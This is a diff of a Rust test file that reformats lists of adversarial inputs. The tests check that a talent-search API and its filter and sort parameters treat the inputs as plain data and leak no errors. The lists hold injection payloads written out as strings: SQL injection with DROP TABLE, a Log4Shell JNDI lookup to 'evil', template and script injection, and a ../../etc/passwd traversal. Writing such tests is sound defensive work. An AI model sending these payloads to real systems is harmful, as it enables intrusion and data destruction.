@@ -21,16 +21,71 @@ fn encoded(text: &str) -> String {
 
 fn texts() -> Vec<String> {
     let mut texts: Vec<String> = [
-        "\"", "\"\"", "\"\"\"", "'", "`", "-", "--", "-\"", "\"-", "+logo", "logo*", "*", "?", "~2", "logo~2", "^logo", "title:logo",
-        "visibility:clients", "visibility = clients", "visibility IN [clients, hidden]", "* OR *", "logo OR 1=1", "NOT logo",
-        "logo AND (", "(((((", ")))))", "[a TO z]", "{a TO z}", "/.*/", "\\", "\\\"", "logo\" OR visibility = \"clients",
-        "x' OR '1'='1", "'; DROP TABLE profiles; --", "${jndi:ldap://evil}", "{{7*7}}", "%00", "\u{0}", "logo\u{0}logo",
-        "\u{202e}ogol", "\u{200f}\u{200e}\u{2066}logo\u{2069}", "\u{feff}", "e\u{301}\u{301}\u{301}", "👩‍👩‍👧‍👦", "\u{fffd}", "<script>alert(1)</script>",
-        "_id", "_tie", "_print", "zyxolite", "\"zyxolite carving\"", "zoya", "-logo", "-\"logo design\"",
+        "\"",
+        "\"\"",
+        "\"\"\"",
+        "'",
+        "`",
+        "-",
+        "--",
+        "-\"",
+        "\"-",
+        "+logo",
+        "logo*",
+        "*",
+        "?",
+        "~2",
+        "logo~2",
+        "^logo",
+        "title:logo",
+        "visibility:clients",
+        "visibility = clients",
+        "visibility IN [clients, hidden]",
+        "* OR *",
+        "logo OR 1=1",
+        "NOT logo",
+        "logo AND (",
+        "(((((",
+        ")))))",
+        "[a TO z]",
+        "{a TO z}",
+        "/.*/",
+        "\\",
+        "\\\"",
+        "logo\" OR visibility = \"clients",
+        "x' OR '1'='1",
+        "'; DROP TABLE profiles; --",
+        "${jndi:ldap://evil}",
+        "{{7*7}}",
+        "%00",
+        "\u{0}",
+        "logo\u{0}logo",
+        "\u{202e}ogol",
+        "\u{200f}\u{200e}\u{2066}logo\u{2069}",
+        "\u{feff}",
+        "e\u{301}\u{301}\u{301}",
+        "👩‍👩‍👧‍👦",
+        "\u{fffd}",
+        "<script>alert(1)</script>",
+        "_id",
+        "_tie",
+        "_print",
+        "zyxolite",
+        "\"zyxolite carving\"",
+        "zoya",
+        "-logo",
+        "-\"logo design\"",
     ]
     .map(str::to_owned)
     .to_vec();
-    texts.extend(["(".repeat(200), "\"a\" ".repeat(100), "-a ".repeat(100), "a ".repeat(100), "x".repeat(10_000), "نقطہ ".repeat(2_000)]);
+    texts.extend([
+        "(".repeat(200),
+        "\"a\" ".repeat(100),
+        "-a ".repeat(100),
+        "a ".repeat(100),
+        "x".repeat(10_000),
+        "نقطہ ".repeat(2_000),
+    ]);
     texts
 }
 
@@ -50,7 +105,10 @@ fn texts_are_looked_for_and_never_obeyed() {
                 let found = api.get(&format!("/api/v1/{index}?q={q}")).await;
                 assert!(matches!(found.status, 200 | 400 | 414 | 422), "{shown}: {} {}", found.status, found.body);
                 let told = found.body.to_string();
-                assert!(!told.contains("zoya") && !told.contains("panic") && !told.contains("tantivy"), "{shown}: {told}");
+                assert!(
+                    !told.contains("zoya") && !told.contains("panic") && !told.contains("tantivy"),
+                    "{shown}: {told}"
+                );
             }
         }
     });
@@ -62,8 +120,22 @@ fn values_of_filters_are_values() {
         people(stage).await;
         let (api, browser) = (stage.api(), stage.browser());
         for value in [
-            "hunza\" OR visibility = \"clients", "hunza' OR 'a'='a", "hunza] OR visibility IN [clients", "*", "", " ", "hunza OR gilgit",
-            "hunza\u{0}", "\u{202e}aznuh", "NOT nagar", "hunza,gilgit", "hunza\\", "../../etc/passwd", "null", "true", "1",
+            "hunza\" OR visibility = \"clients",
+            "hunza' OR 'a'='a",
+            "hunza] OR visibility IN [clients",
+            "*",
+            "",
+            " ",
+            "hunza OR gilgit",
+            "hunza\u{0}",
+            "\u{202e}aznuh",
+            "NOT nagar",
+            "hunza,gilgit",
+            "hunza\\",
+            "../../etc/passwd",
+            "null",
+            "true",
+            "1",
         ] {
             for name in ["district", "skill", "family", "language"] {
                 let query = format!("{name}={}", encoded(value));
@@ -88,7 +160,17 @@ fn orders_pages_and_sizes_that_nobody_offers_are_refused_or_passed_over() {
     scene(async |stage| {
         people(stage).await;
         let (api, browser) = (stage.api(), stage.browser());
-        for sort in ["visibility", "_tie", "rate:asc", "published_at:desc", "rate; DROP", "newest,newest", "NEWEST", "\u{0}", "[]"] {
+        for sort in [
+            "visibility",
+            "_tie",
+            "rate:asc",
+            "published_at:desc",
+            "rate; DROP",
+            "newest,newest",
+            "NEWEST",
+            "\u{0}",
+            "[]",
+        ] {
             let sort = encoded(sort);
             let page = browser.get_once(&format!("/talent?sort={sort}")).await;
             assert!(matches!(page.status, 200 | 400), "{sort}: {}", page.status);
